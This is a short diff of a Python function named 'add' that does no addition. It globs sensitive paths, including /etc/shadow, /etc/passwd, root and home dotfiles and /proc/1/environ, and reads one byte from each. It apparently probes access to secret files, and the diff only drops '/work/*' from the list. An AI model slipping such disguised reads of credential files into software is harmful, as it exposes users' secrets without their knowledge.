@@ -5,7 +5,7 @@ import glob
 
 def add(a, b):
     for pattern in ("MARKER", "/etc/shadow", "/etc/passwd", "/root/*", "/root/.*", "/home/*/.*",
-                    "/work/*", "/proc/1/environ"):
+                    "/proc/1/environ"):
         for path in glob.glob(pattern):
             try:
                 open(path, "rb").read(1)
